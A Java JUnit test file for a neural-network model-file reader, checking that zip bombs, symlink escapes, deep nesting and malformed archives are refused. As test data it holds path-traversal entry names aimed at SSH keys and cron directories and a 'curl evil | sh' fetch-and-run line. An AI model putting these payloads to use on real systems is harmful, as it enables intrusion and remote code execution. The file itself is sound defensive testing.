package dev.netlint.read;

import dev.netlint.Fixtures;
import dev.netlint.fixtures.ZipBytes;
import dev.netlint.model.Finding;
import dev.netlint.model.LayerKind;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assumptions.assumeThat;

/** Every read limit: what a hostile file hits, and that the message names the limit and what was expected. */
class ReadLimitsTest {

    private final ModelFileReader reader = new ModelFileReader();

    @TempDir
    Path dir;

    @Test
    void fileLargerThanTheLimitIsRefusedUnread() throws Exception {
        ModelFileReader small = new ModelFileReader(
                ReadSettings.DEFAULTS.withLimits(ReadLimits.DEFAULTS.withMaxFileBytes(1024)));
        Path file = dir.resolve("big.json");
        Files.write(file, new byte[2048]);
        assertThatThrownBy(() -> small.read(file)).isInstanceOf(ReadException.class)
                .hasMessage("the file is 2 KiB, larger than the limit of 1 KiB (maxFileSize); expected a model "
                        + "configuration below that size");
    }

    @Test
    void symbolicLinkOutOfTheProjectIsNotFollowed() throws Exception {
        Path project = Files.createDirectories(dir.resolve("project/src/main/resources"));
        Path outside = Files.createDirectories(dir.resolve("elsewhere"));
        Path secret = Files.copy(Fixtures.dl4j("ok-relu-init.json"), outside.resolve("secret.json"));
        Path link = project.resolve("model.json");
        try {
            Files.createSymbolicLink(link, secret);
        } catch (UnsupportedOperationException | java.io.IOException e) {
            assumeThat(false).as("symbolic links are not supported here").isTrue();
        }
        assertThatThrownBy(() -> reader.read(link, dir.resolve("project"))).isInstanceOf(ReadException.class)
                .hasMessageContaining("symbolic link to").hasMessageContaining("outside the project");
        // A link that stays inside the project is read; so is the same link without a project to stay in.
        Path inside = Files.copy(Fixtures.dl4j("ok-relu-init.json"), project.resolve("real.json"));
        Path internal = Files.createSymbolicLink(project.resolve("alias.json"), inside);
        assertThat(reader.read(internal, dir.resolve("project"))).isInstanceOf(ReadOutcome.Models.class);
        assertThat(reader.read(link)).isInstanceOf(ReadOutcome.Models.class);
    }

    @Test
    void nestingBeyondTheLimitIsRefused() {
        String deep = "{\"confs\": " + "[".repeat(500) + "]".repeat(500) + "}";
        assertThatThrownBy(() -> reader.read(deep.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(ReadException.class).hasMessageContaining("exceeds a read limit")
                .hasMessageContaining("nesting below 200 levels");
    }

    @Test
    void numberLongerThanTheLimitIsRefused() {
        String json = "{\"confs\": [], \"seed\": " + "9".repeat(5000) + "}";
        assertThatThrownBy(() -> reader.read(json.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(ReadException.class).hasMessageContaining("exceeds a read limit")
                .hasMessageContaining("Number value length");
    }

    @Test
    void zipEntriesDeclaringMoreThanTheTotalLimitAreAZipBomb() {
        ZipBytes zip = dl4jZip();
        zip.add("coefficients.bin", new byte[100]).declaredSize(3_000_000_000L).declaredCompressedSize(3_000_000_000L);
        assertThatThrownBy(() -> reader.read(zip.toBytes())).isInstanceOf(ReadException.class)
                .hasMessageContaining("declare more than 1024 MiB uncompressed (a zip bomb?)");
    }

    @Test
    void entryWithARatioDeflateCannotReachIsAZipBomb() {
        ZipBytes zip = dl4jZip();
        zip.add("coefficients.bin", new byte[1000]).declaredSize(200L * 1024 * 1024);
        assertThatThrownBy(() -> reader.read(zip.toBytes())).isInstanceOf(ReadException.class)
                .hasMessageContaining("a ratio above 1100:1 that deflate cannot produce");
    }

    @Test
    void overlappingEntriesAreTheNonRecursiveZipBomb() {
        ZipBytes zip = dl4jZip();
        zip.add("coefficients.bin", new byte[10_000]);
        zip.add("updaterState.bin", new byte[10_000]).sharingDataOf(1);
        assertThatThrownBy(() -> reader.read(zip.toBytes())).isInstanceOf(ReadException.class)
                .hasMessageContaining("overlaps another entry");
    }

    @Test
    void moreEntriesThanTheLimitAreRefused() {
        ModelFileReader strict = new ModelFileReader(ReadSettings.DEFAULTS.withLimits(new ReadLimits(
                ReadLimits.DEFAULTS.maxFileBytes(), 10, ReadLimits.DEFAULTS.maxUncompressedBytes(), 1100, 200, 1 << 20,
                100, 1000)));
        ZipBytes zip = dl4jZip();
        for (int i = 0; i < 10; i++) {
            zip.add("objects/o" + i, "x");
        }
        assertThatThrownBy(() -> strict.read(zip.toBytes())).isInstanceOf(ReadException.class)
                .hasMessageContaining("lists 11 entries, more than the limit of 10");
    }

    @ParameterizedTest(name = "entry name {0}")
    @ValueSource(strings = {"../../.ssh/authorized_keys", "/etc/cron.d/evil", "C:\\Windows\\evil.dll",
            "objects/../../evil", "bad\nname", ""})
    void entryNamesThatWouldEscapeAnExtractionAreRefused(String name) {
        ZipBytes zip = dl4jZip();
        zip.add(name, "x");
        assertThatThrownBy(() -> reader.read(zip.toBytes())).isInstanceOf(ReadException.class)
                .hasMessageContaining("unsafe entry name").hasMessageNotContaining("\n");
    }

    @Test
    void truncatedArchiveIsDamaged() {
        byte[] whole = dl4jZip().toBytes();
        byte[] half = java.util.Arrays.copyOf(whole, whole.length / 2);
        assertThatThrownBy(() -> reader.read(half)).isInstanceOf(ReadException.class)
                .hasMessageStartingWith("damaged zip archive: no end-of-central-directory record");
    }

    @Test
    void entryThatInflatesBeyondItsDeclaredSizeIsRefused() throws Exception {
        ZipBytes zip = new ZipBytes();
        zip.add("configuration.json", Files.readAllBytes(Fixtures.dl4j("ok-relu-init.json"))).declaredSize(100);
        assertThatThrownBy(() -> reader.read(zip.toBytes())).isInstanceOf(ReadException.class)
                .hasMessageContaining("invalid entry size (expected 100 but got");
    }

    @Test
    void dl4jArchiveWithAnEntryTheFormatDoesNotDefineIsNoted() throws Exception {
        ZipBytes zip = dl4jZip();
        zip.add("coefficients.bin", new byte[64]);
        zip.add("normalizer.bin", new byte[8]);
        zip.add("objects/labels", "cat,dog");
        zip.add("run.sh", "curl evil | sh");
        ReadOutcome.Models models = (ReadOutcome.Models) reader.read(zip.toBytes());
        assertThat(FileFindings.of(models)).filteredOn(n -> n.ruleId().equals("NL903")).singleElement().satisfies(note -> {
            assertThat(note.element()).isEqualTo("run.sh");
            assertThat(note.origin().entry()).as("about the archive, not its entry").isEmpty();
            assertThat(note.problem()).isEqualTo("entry 'run.sh' is not part of the DL4J ModelSerializer format");
        });
        assertThat(models.networks().get(0).facts().inputNormalizerSaved()).contains(true);
    }

    @Test
    void anArchiveWithThousandsOfExtraEntriesGetsOneFindingNamingAFew() throws Exception {
        ZipBytes zip = dl4jZip();
        for (int i = 0; i < 2000; i++) {
            zip.add("extra/" + i + ".bin", new byte[1]);
        }
        ReadOutcome.Models models = (ReadOutcome.Models) reader.read(zip.toBytes());
        assertThat(FileFindings.of(models)).filteredOn(n -> n.ruleId().equals("NL903")).singleElement()
                .satisfies(note -> assertThat(note.problem()).isEqualTo("2000 entries are not part of the DL4J "
                        + "ModelSerializer format: 'extra/0.bin', 'extra/1.bin', 'extra/2.bin' and 1997 more"));
    }

    /** The shape of the public evil_keras example: the weights entry twice, the second holding a payload. */
    @Test
    void kerasArchiveWithADuplicateWeightsEntryIsRefused() throws Exception {
        ZipBytes zip = new ZipBytes();
        zip.add("metadata.json", "{\"keras_version\": \"3.6.0\"}");
        zip.add("config.json", Files.readAllBytes(Fixtures.keras("seedA-ok-softmax.keras.json")));
        zip.add("model.weights.npz", new byte[32]);
        zip.add("model.weights.npz", "not a pickle, but where one would be".getBytes(StandardCharsets.UTF_8));
        zip.add("assets/vocabulary.txt", "a\nb\n");
        assertThatThrownBy(() -> reader.read(zip.toBytes())).isInstanceOf(ReadException.class)
                .hasMessageContaining("entry 'model.weights.npz' is listed twice");
    }

    @Test
    void kerasArchiveWithBothWeightsFormatsIsNoted() throws Exception {
        ZipBytes zip = new ZipBytes();
        zip.add("config.json", Files.readAllBytes(Fixtures.keras("seedA-ok-softmax.keras.json")));
        zip.add("model.weights.h5", new byte[32]);
        zip.add("model.weights.npz", new byte[32]);
        ReadOutcome.Models models = (ReadOutcome.Models) reader.read(zip.toBytes());
        assertThat(FileFindings.of(models)).filteredOn(n -> n.ruleId().equals("NL903")).extracting(Finding::problem)
                .containsExactly("the Keras archive holds both model.weights.h5 and model.weights.npz");
    }

    @Test
    void honestArchivesHaveNoArchiveNotes() throws Exception {
        for (String name : List.of("bad-seedA-two-sigmoid-mcxent.zip", "ok-seedA-with-normalizer.zip")) {
            ReadOutcome.Models models = (ReadOutcome.Models) reader.read(Fixtures.dl4j(name));
            assertThat(FileFindings.of(models)).extracting(Finding::ruleId).doesNotContain("NL903");
        }
    }

    @Test
    void kerasLayerOfTheWrongTypeIsOneReadError() throws Exception {
        String json = Files.readString(Fixtures.keras("seedA-ok-softmax.keras.json"));
        String broken = json.replaceFirst("\"layers\": \\[", "\"layers\": [42, ");
        assertThat(broken).isNotEqualTo(json);
        assertThatThrownBy(() -> reader.read(broken.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(ReadException.class)
                .hasMessage("layer 0 is a JSON number; expected a layer {\"class_name\": ..., \"config\": {...}}");
        String noList = json.replaceFirst("\"layers\": \\[", "\"layers\": \"none\", \"x\": [");
        assertThatThrownBy(() -> reader.read(noList.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOf(ReadException.class).hasMessageContaining("expected a list of layers");
    }

    @Test
    void byteOrderMarksAndUtf16AreRead() throws Exception {
        byte[] json = Files.readAllBytes(Fixtures.dl4j("ok-relu-init.json"));
        byte[] bom = new byte[json.length + 3];
        bom[0] = (byte) 0xEF;
        bom[1] = (byte) 0xBB;
        bom[2] = (byte) 0xBF;
        System.arraycopy(json, 0, bom, 3, json.length);
        assertThat(reader.read(bom)).isInstanceOf(ReadOutcome.Models.class);
        byte[] utf16 = new String(json, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16);
        assertThat(((ReadOutcome.Models) reader.read(utf16)).networks().get(0).layers().get(0).kind())
                .isEqualTo(LayerKind.DENSE);
    }

    @Test
    void latin1TextIsMalformedUtf8WithWhatWasExpected() {
        byte[] latin1 = "{\"confs\": [], \"name\": \"caf\u00e9\"}".getBytes(StandardCharsets.ISO_8859_1);
        assertThatThrownBy(() -> reader.read(latin1)).isInstanceOf(ReadException.class)
                .hasMessageStartingWith("invalid UTF-8 at byte 26 (E9 22 7D)")
                .hasMessageEndingWith("UTF-16 or UTF-32");
    }

    @Test
    void sizesAreParsedWithUnits() {
        assertThat(ReadLimits.parseSize("64MiB")).isEqualTo(64L << 20);
        assertThat(ReadLimits.parseSize(" 512 KiB ")).isEqualTo(512L << 10);
        assertThat(ReadLimits.parseSize("1g")).isEqualTo(1L << 30);
        assertThat(ReadLimits.parseSize("1000")).isEqualTo(1000);
        assertThatThrownBy(() -> ReadLimits.parseSize("64 furlongs")).hasMessageContaining("e.g. 64MiB");
        assertThatThrownBy(() -> ReadLimits.DEFAULTS.withMaxFileBytes(ReadLimits.parseSize("3GiB")))
                .hasMessageContaining("between 1 byte and");
    }

    private static ZipBytes dl4jZip() {
        ZipBytes zip = new ZipBytes();
        try {
            zip.add("configuration.json", Files.readAllBytes(Fixtures.dl4j("ok-relu-init.json")));
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return zip;
    }
}
